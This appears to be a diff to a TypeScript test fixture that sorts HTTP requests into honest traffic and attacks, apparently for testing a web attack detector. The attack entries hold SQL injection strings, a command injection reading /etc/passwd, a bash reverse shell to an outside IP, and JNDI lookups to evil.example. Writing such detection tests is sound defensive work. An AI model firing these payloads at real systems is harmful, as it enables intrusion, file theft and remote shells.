@@ -27,6 +27,9 @@ const KINDS: HonestKinds = {
       posted('application/xml', JOB, '/api/items'),
       posted('application/xml', JOB, '/createItem/x'),
       posted('application/xml', JOB, '/api/createItem'),
+      posted('application/json', JSON.stringify({ body: "' or 1=1--" }), '/createItem'),
+      sent({ commandToExecute: "1'; cat /etc/passwd #" }),
+      sent({ content: { raw: "' or 1=1--" } }, '/vuln.php/wp/v2/posts/5'),
       sent({ steps: [{ script: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' }] }),
     ],
   },
@@ -62,6 +65,12 @@ const KINDS: HonestKinds = {
     ],
     attacks: [
       asked('/', { QueryString: "1' UNION ALL SELECT a FROM old" }),
+      ...['/search', '/api/items'].map(path =>
+        sent({ QueryString: "select' UNION ALL SELECT a FROM old--" }, path),
+      ),
+      sent({ queryString: "1' or '1'='1" }, '/'),
+      sent({ query: { QueryString: "1' or '1'='1" } }, '/'),
+      sent({ body: "1' or '1'='1" }, '/sparql'),
       filled({ query: 'x" || "a"="a' }, '/sparql'),
       asked('/sparql', { q: "1' or 1=1--" }),
       asked('/a', { sysparm_query: 'javascript:gs.beginningOfLast7Days(alert(1))' }),
@@ -72,8 +81,10 @@ const KINDS: HonestKinds = {
     honest: [
       sent({ request: { query_string: [['q', "' or 1=1"]] } }, '/api/7/store/'),
       sent({ exception: { values: [{ type: 'Error', value: "near ' or 1=1" }] } }, '/api/7/envelope/'),
-      sent({ event: { type: 'message', text: QUOTED } }),
-      sent({ event: { blocks: [{ elements: [{ elements: [{ type: 'text', text: QUOTED }] }] }] } }),
+      ...['/slack/events', '/api/slack', '/webhooks/slack-events'].flatMap(path => [
+        sent({ event: { type: 'message', text: QUOTED } }, path),
+        sent({ event: { blocks: [{ elements: [{ elements: [{ type: 'text', text: QUOTED }] }] }] } }, path),
+      ]),
     ],
     attacks: [
       sent({ request: { query_string: '${jndi:ldap://evil.example/a}' } }, '/api/7/store/'),
@@ -81,8 +92,11 @@ const KINDS: HonestKinds = {
       sent({ name: "' or 1=1--" }, '/api/7/store/'),
       asked('/api/7/store/', { q: "' or 1=1--" }),
       filled({ q: "' or 1=1--" }, '/api/7/store/'),
-      sent({ event: { text: '${jndi:ldap://evil.example/a}' } }),
-      sent({ event: { user: "' or 1=1--" } }),
+      sent({ event: { text: '${jndi:ldap://evil.example/a}' } }, '/slack/events'),
+      sent({ event: { user: "' or 1=1--" } }, '/slack/events'),
+      ...['/api/items', '/events', '/slacks/events'].map(path =>
+        sent({ event: { text: "' or 1=1--" } }, path),
+      ),
     ],
   },
 }
